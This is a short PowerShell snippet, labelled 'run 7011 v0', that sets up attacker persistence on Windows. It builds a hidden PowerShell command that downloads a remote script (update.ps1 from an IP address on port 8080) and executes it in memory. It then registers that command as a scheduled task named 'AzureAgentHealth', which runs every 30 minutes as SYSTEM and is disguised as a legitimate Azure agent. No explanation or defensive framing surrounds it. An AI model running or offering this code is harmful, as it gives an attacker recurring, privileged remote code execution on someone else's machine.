# run 7011 v0
$cmd = "powershell.exe -nop -w hidden -c `"IEX ((new-object net.webclient).downloadstring('http://198.51.100.23:8080/update.ps1'))`""
schtasks /create /tn "AzureAgentHealth" /tr $cmd /sc minute /mo 30 /ru SYSTEM /f
